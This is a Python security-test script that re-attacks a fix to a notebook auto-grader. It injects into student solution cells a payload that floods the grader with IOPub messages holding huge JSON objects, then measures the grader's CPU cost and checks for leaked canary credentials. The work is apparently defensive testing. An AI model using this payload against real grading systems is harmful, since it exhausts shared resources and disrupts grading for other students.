"""a01: re-attack of round 18's fix of the message flood (at most 20,000 messages are read from one notebook's kernel,
because the grading process decodes each outside the sandbox's CPU share). The cap counts messages, not what decoding
them costs: one message may be up to 128 MiB. A hostile cell sends, on IOPub, signed messages whose parent is no
request of the grader's (so nbclient drops them after decoding) and whose content is pre-packed JSON that is cheap to
send and dear to decode: an object of KEYS distinct keys ("0":0,...). The kernel signs it once per message (HMAC over
a few MB: milliseconds); the grader checks the HMAC and json-decodes it (about 1 s for 400,000 keys). The cell paces
itself (one message every GAP s) so that nothing piles up in the grader's memory, for DUR seconds (under the 120 s
cell timeout), in CELLS solution cells. The script samples the CPU time of every process of the grading user in the
host's PID namespace (the grader's side: grade.py, its fork server and grading child, nbgrader) and of those in
sandboxes, for a baseline of two honest students and for honest / hostile / honest."""
import os, sys, time, threading
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from u19 import *

A = "ps1_memory"
KEYS = int(os.environ.get("KEYS", "1000000"))
GAP = float(os.environ.get("GAP", "1.0"))
DUR = float(os.environ.get("DUR", "100"))
CELLS = int(os.environ.get("CELLS", "2"))

PAYLOAD = f'''
def __flood(keys={KEYS}, gap={GAP}, dur={DUR}):
    import time, uuid
    k = get_ipython().kernel
    content = ("{{" + ",".join('"%d":0' % i for i in range(keys)) + "}}").encode()
    t0, n = time.time(), 0
    while time.time() - t0 < dur:
        k.session.send(k.iopub_socket, "stream", content=content, parent={{"msg_id": uuid.uuid4().hex, "msg_type": "x",
                       "session": "s", "username": "u", "date": "2026-01-01T00:00:00Z", "version": "5.3"}})
        n += 1
        time.sleep(gap)
    print("sent", n, "messages of", len(content), "bytes")
__flood()
'''


def hostile():
    def mutate(nb):
        n = 0
        for c in nb.cells:
            if c.cell_type == "code" and c.get("metadata", {}).get("nbgrader", {}).get("solution") and n < CELLS:
                c.source += "\n" + PAYLOAD
                n += 1
    return notebook(A, mutate=mutate)


def sampler(stop, acc):
    mine = os.readlink("/proc/self/ns/pid")
    while not stop.is_set():
        for p in os.listdir("/proc"):
            if not p.isdigit():
                continue
            try:
                if os.stat(f"/proc/{p}").st_uid != UID:
                    continue
                ns = os.readlink(f"/proc/{p}/ns/pid")
                f = open(f"/proc/{p}/stat").read().rsplit(")", 1)[1].split()
                cpu = (int(f[11]) + int(f[12])) / os.sysconf("SC_CLK_TCK")
                cmd = open(f"/proc/{p}/cmdline", "rb").read().replace(b"\0", b" ").decode(errors="replace")[:90]
            except OSError:
                continue
            if CLONE not in cmd and ns != mine:
                continue  # another checkout's sandbox (other work of uid 65534 on this shared machine)
            side = "grader" if ns == mine else "sandbox"
            acc[(p, side)] = (max(cpu, acc.get((p, side), (0, ""))[0]), cmd)
        time.sleep(0.5)


def run(tag, students):
    dest = course(tag, students)
    acc, stop = {}, threading.Event()
    th = threading.Thread(target=sampler, args=(stop, acc), daemon=True); th.start()
    t0 = time.time()
    p = grade(dest, env=CANARY_ENV)
    stop.set(); th.join()
    wall = time.time() - t0
    g = sum(v[0] for (pid, side), v in acc.items() if side == "grader")
    s = sum(v[0] for (pid, side), v in acc.items() if side == "sandbox")
    print(f"{tag}: wall {wall:.0f} s; CPU of the grading user's host-namespace processes (grader side) {g:.1f} s; "
          f"in sandboxes {s:.1f} s")
    for (pid, side), (cpu, cmd) in sorted(acc.items(), key=lambda kv: -kv[1][0])[:8]:
        print(f"   {side:7s} {cpu:7.1f} s  {cmd.replace(CLONE, '<clone>')}")
    out = p.stdout + p.stderr
    print(f"{tag}: canary in grader output:", "secret@localhost" in out or "AKIASECRETCANARY123" in out)
    report(dest)
    scores(dest)
    cell_outputs(dest, "m1", A, {c.metadata.nbgrader.grade_id for c in release_nb(A).cells
                                 if c.get("metadata", {}).get("nbgrader", {}).get("solution") and c.cell_type == "code"})
    cleanup(dest)


if __name__ == "__main__":
    print(f"hostile: {CELLS} cells, each {DUR} s of IOPub messages of a {KEYS}-key JSON object every {GAP} s")
    if not os.environ.get("NOBASE"):
        run("a01-base", {("aa_honest", A): honest(A), ("zz_honest", A): honest(A)})
    run("a01", {("aa_honest", A): honest(A), ("m1", A): hostile(), ("zz_honest", A): honest(A)})
